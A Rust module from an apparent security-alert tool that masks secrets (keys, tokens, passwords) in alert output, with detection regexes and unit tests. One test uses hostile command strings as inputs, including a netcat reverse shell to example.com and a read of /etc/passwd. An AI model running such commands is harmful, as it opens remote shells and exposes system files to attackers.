//! Masks secrets in what leaves the program. Best effort: it knows the usual shapes, not every secret.

use crate::analysis::{Analysis, Step};
use crate::model::{Alert, Value};
use regex::{Captures, Regex};
use std::borrow::Cow;
use std::sync::LazyLock;

/// What stands in place of a secret.
const MASK: &str = "‹masked›";

/// Shapes of secrets: the group `s` is the secret, the rest stays. Sources: the issuers' documentation of their token
/// formats (AWS, GitHub, GitLab, Slack, Google, Stripe), RFC 7519 for tokens of three parts, RFC 7468 for PEM.
const SHAPES: &[&str] = &[
    r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----(?P<s>.*?)(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
    r#"(?i)\bauthorization:\s*(?:basic|bearer|token|digest|apikey)?\s*(?P<s>[^\s'",;]+)"#,
    r"(?i)\bbearer\s+(?P<s>[A-Za-z0-9._~+/=-]{8,})",
    r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s/@]+)@",
    r#"(?i)(?:^|[\s'"])(?:-u|--user|--proxy-user)[ =]+['"]?[^\s:'"]+:(?P<s>[^\s'"]+)"#,
    r"\b(?P<s>(?:AKIA|ASIA|AROA|AIDA)[A-Z0-9]{16})\b",
    r"\b(?P<s>gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{20,}|glpat-[A-Za-z0-9_-]{16,})",
    r"\b(?P<s>xox[abeprs]-[A-Za-z0-9-]{8,}|xapp-[A-Za-z0-9-]{8,})",
    r"\b(?P<s>AIza[A-Za-z0-9_-]{30,}|ya29\.[A-Za-z0-9_-]{20,}|sk_live_[A-Za-z0-9]{16,}|sk-[A-Za-z0-9_-]{20,}|npm_[A-Za-z0-9]{30,}|hvs\.[A-Za-z0-9]{20,})",
    r"\b(?P<s>eyJ[A-Za-z0-9_-]{6,}\.[A-Za-z0-9_-]{6,}\.[A-Za-z0-9_-]*)",
    r#"(?i)(?:^|[\s'"&?;,{(])-{0,2}[a-z0-9_.-]*(?:passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|client[_-]?secret|credential)[a-z0-9_.-]*['"]?\s*[=:]\s*['"]?(?P<s>[^\s'"&;,})]+)"#,
    r#"(?i)(?:^|\s)--?(?:[a-z0-9-]*(?:password|passwd|passphrase|secret|token|api-key|apikey|access-key))\s+['"]?(?P<s>[^\s'"-][^\s'"]*)"#,
    r"\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump)\b[^|;&\n]*?\s-p(?P<s>[^\s-][^\s]*)",
    r"\b(?:sshpass|redis-cli|smbclient|curlftpfs)\b[^|;&\n]*?\s-[pa]\s*(?P<s>[^\s-][^\s]*)",
];

/// A long word of many kinds of characters behind a word that announces a secret.
const ANNOUNCED: &str =
    r"(?i)\b(?:key|token|secret|passw[a-z]*)\b[^A-Za-z0-9]{1,4}(?P<s>[A-Za-z0-9+/=_-]{25,})";

static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    SHAPES.iter().chain([&ANNOUNCED]).filter_map(|shape| Regex::new(shape).ok()).collect()
});

/// The shortest secret that is looked for wherever else it may stand: shorter ones are parts of harmless words.
const LEAST: usize = 5;

/// The same for a part of a secret of several lines.
const LEAST_PART: usize = 8;

/// Masks the secrets of a text; gives how many there were.
pub fn secrets(text: &str) -> (Cow<'_, str>, usize) {
    let mut known = Known::default();
    let masked = known.shapes(text);
    (masked, known.n)
}

/// The secrets of one alert. A secret is told by its shape once (`mysql -phunter2`) and masked wherever else it stands
/// (`proc.args` says `-phunter2` alone).
#[derive(Clone, Debug, Default)]
struct Known {
    texts: Vec<String>,
    n: usize,
}

impl Known {
    /// Masks what has the shape of a secret, and remembers it.
    fn shapes<'a>(&mut self, text: &'a str) -> Cow<'a, str> {
        let mut masked = Cow::Borrowed(text);
        for pattern in PATTERNS.iter() {
            if !pattern.is_match(&masked) {
                continue;
            }
            let replaced = pattern.replace_all(&masked, |found: &Captures<'_>| {
                let (Some(whole), Some(secret)) = (found.get(0), found.name("s")) else {
                    return String::new();
                };
                if secret.as_str().is_empty()
                    || secret.as_str().contains(MASK)
                    || is_reference(secret.as_str())
                {
                    return whole.as_str().to_owned();
                }
                self.remember(secret.as_str());
                let (before, after) =
                    (secret.start() - whole.start(), secret.end() - whole.start());
                let part =
                    |from: usize, to: usize| whole.as_str().get(from..to).unwrap_or_default();
                format!("{}{MASK}{}", part(0, before), part(after, whole.len()))
            });
            masked = Cow::Owned(replaced.into_owned());
        }
        masked
    }

    fn remember(&mut self, secret: &str) {
        self.n += 1;
        self.know(secret, LEAST);
        // A secret of several lines stands elsewhere with its breaks written otherwise, or cut: each line is one too.
        let breaks = |c: char| c.is_whitespace() || c.is_control() || c == '\\';
        if secret.contains(breaks) {
            for (at, part) in secret.split(breaks).enumerate() {
                self.know(part, LEAST_PART);
                // Behind a backslash that was written out stands the letter of the break.
                if at > 0 && part.starts_with(['n', 'r', 't']) {
                    self.know(part.get(1..).unwrap_or_default(), LEAST_PART);
                }
            }
        }
    }

    fn know(&mut self, secret: &str, least: usize) {
        if secret.len() >= least && !self.texts.iter().any(|known| known == secret) {
            self.texts.push(secret.to_owned());
            // A longer secret is looked for before one that is a part of it.
            self.texts.sort_by_key(|known| std::cmp::Reverse(known.len()));
        }
    }

    /// Masks shapes, then whatever is known to be a secret from elsewhere.
    fn mask(&mut self, text: &mut String) {
        let mut masked = self.shapes(text).into_owned();
        for secret in &self.texts {
            if masked.contains(secret.as_str()) {
                self.n += masked.matches(secret.as_str()).count();
                masked = masked.replace(secret.as_str(), MASK);
            }
        }
        if masked != *text {
            *text = masked;
        }
    }

    fn boxed(&mut self, text: &mut Box<str>) {
        let mut owned = text.to_string();
        self.mask(&mut owned);
        if owned != **text {
            *text = owned.into();
        }
    }

    fn value(&mut self, key: &str, value: &mut Value) {
        match value {
            Value::String(text) if is_announced(key) && !is_reference(text) && !text.is_empty() => {
                if &**text != MASK {
                    self.remember(text);
                    *text = MASK.into();
                }
            }
            Value::String(text) => self.boxed(text),
            Value::Array(items) => items.iter_mut().for_each(|item| self.value(key, item)),
            Value::Object(members) => {
                for (key, inner) in members.iter_mut() {
                    self.value(key, inner);
                }
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }

    /// Learns the secrets of a value without changing it.
    fn learn(&mut self, value: &Value) {
        self.value("", &mut value.clone());
    }

    fn alert(&mut self, alert: &mut Alert) {
        for (_, value) in &alert.fields.0 {
            self.learn(value);
        }
        if let Some(output) = &alert.output {
            self.shapes(output);
        }
        // What was learned is no mask yet.
        self.n = 0;
        let texts = [&mut alert.output, &mut alert.rule, &mut alert.hostname];
        texts.into_iter().flatten().for_each(|text| self.boxed(text));
        alert.tags.iter_mut().for_each(|tag| self.boxed(tag));
        for (key, value) in &mut alert.fields.0 {
            let key = key.to_string();
            self.value(&key, value);
        }
    }

    fn analysis(&mut self, analysis: &mut Analysis) {
        let Analysis {
            playbook: _,
            headline,
            summary,
            story,
            proves,
            not_proven,
            facts,
            assessment,
            causes,
            missing,
            attack: _,
            steps,
            related,
            tuning,
            references: _,
        } = analysis;
        let texts = [headline, summary]
            .into_iter()
            .chain(proves)
            .chain(not_proven)
            .chain(facts.iter_mut().flat_map(|fact| [&mut fact.value, &mut fact.says]))
            .chain(assessment.reasons.iter_mut().map(|reason| &mut reason.says))
            .chain(causes.iter_mut().flat_map(|cause| [&mut cause.title, &mut cause.check]))
            .chain(missing.iter_mut().flat_map(|missing| [&mut missing.why, &mut missing.find]))
            .chain(related.iter_mut().map(|related| &mut related.rule))
            .chain(tuning);
        texts.for_each(|text| self.mask(text));
        // It stands in the summary, where its secrets were counted.
        let n = self.n;
        story.iter_mut().for_each(|text| self.mask(text));
        self.n = n;
        for step in steps.iter_mut() {
            self.step(step);
        }
    }

    /// A command with a hole in it would do something else: one that holds a secret is left out.
    fn step(&mut self, step: &mut Step) {
        let holds = |text: &String| self.texts.iter().any(|secret| text.contains(secret.as_str()));
        if step.command.as_ref().is_some_and(holds) {
            self.n += 1;
            step.command = None;
            step.unavailable = Some("It would hold a secret that this report masks.".to_owned());
        }
        if step.undo.as_ref().is_some_and(holds) {
            step.undo = Some("none here: it would hold a secret that this report masks".to_owned());
        }
        step.others.retain(|(_, command)| !holds(command));
        let texts = [&mut step.title, &mut step.why];
        texts.into_iter().chain(&mut step.note).for_each(|text| self.mask(text));
    }
}

/// Masks the secrets in everything an alert and its analysis say, and in what people wrote about it; gives how many
/// there were.
pub fn all(alert: &mut Alert, analysis: Option<&mut Analysis>, notes: &mut [&mut String]) -> usize {
    let mut known = Known::default();
    known.alert(alert);
    if let Some(analysis) = analysis {
        known.analysis(analysis);
    }
    for note in notes.iter_mut() {
        known.mask(note);
    }
    known.n
}

/// Masks the secrets in the text of an alert's record, also those that only its fields tell; gives how many there were.
pub fn record(alert: &Alert, text: &mut String) -> usize {
    let mut known = Known::default();
    known.alert(&mut alert.clone());
    known.n = 0;
    known.mask(text);
    known.n
}

/// Masks the secrets in everything an alert says; gives how many there were.
pub fn alert(alert: &mut Alert) -> usize {
    all(alert, None, &mut [])
}

/// Whether a field's or a member's name says that its value is a secret.
fn is_announced(key: &str) -> bool {
    const NAMES: [&str; 9] = [
        "password",
        "passwd",
        "passphrase",
        "secret",
        "token",
        "apikey",
        "accesskey",
        "privatekey",
        "authorization",
    ];
    let last = key.rsplit('.').next().unwrap_or_default();
    let plain: String = last.chars().filter(char::is_ascii_alphanumeric).collect();
    let plain = plain.to_ascii_lowercase();
    NAMES.iter().any(|name| plain.ends_with(name))
}

/// What only names a secret: a variable, a file, nothing.
fn is_reference(text: &str) -> bool {
    text.starts_with('$')
        || matches!(text, "null" | "true" | "false" | "-" | "<NA>" | "NULL" | "none")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        let (masked, n) = secrets(text);
        assert_eq!(masked, expected);
        assert_eq!(n, expected.matches(MASK).count());
    }

    #[test]
    fn secrets_are_masked_and_the_rest_stays() {
        check("mysql -u root -phunter2 shop", "mysql -u root -p‹masked› shop");
        check("app --password=hunter2 --port 80", "app --password=‹masked› --port 80");
        check("app --db-password hunter2 run", "app --db-password ‹masked› run");
        check("curl https://ana:hunter2@example.org/x", "curl https://ana:‹masked›@example.org/x");
        check("curl -u ana:hunter2 example.org", "curl -u ana:‹masked› example.org");
        check(
            "curl -H 'Authorization: Bearer abc.def-123' x",
            "curl -H 'Authorization: Bearer ‹masked›' x",
        );
        check("aws AKIAIOSFODNN7EXAMPLE", "aws ‹masked›");
        check("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG x", "AWS_SECRET_ACCESS_KEY=‹masked› x");
        check("git clone ghp_0123456789abcdefghij0123456789abcdef", "git clone ‹masked›");
        check("xoxb-123456789-abcdef", "‹masked›");
        check("t eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "t ‹masked›");
        check(
            "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN RSA PRIVATE KEY-----‹masked›-----END RSA PRIVATE KEY-----",
        );
        check("{\"api_key\": \"0123456789\"}", "{\"api_key\": \"‹masked›\"}");
    }

    #[test]
    fn what_is_no_secret_stays() {
        for text in [
            "nc -e /bin/sh example.com 22",
            "cat /etc/passwd",
            "mkdir -p /tmp/x",
            "mysql -p",
            "docker login --password-stdin",
            "echo --password=$PASSWORD",
            "10:00:00.000000000: Warning Sensitive file opened (file=/etc/shadow token=<NA>)",
        ] {
            assert_eq!(secrets(text), (Cow::Borrowed(text), 0));
        }
    }

    proptest! {
        #[test]
        fn masking_twice_changes_nothing(text in "[ -~]{0,80}") {
            let (once, _) = secrets(&text);
            let (twice, n) = secrets(&once);
            prop_assert_eq!((&twice, n), (&once, 0));
        }
    }
}
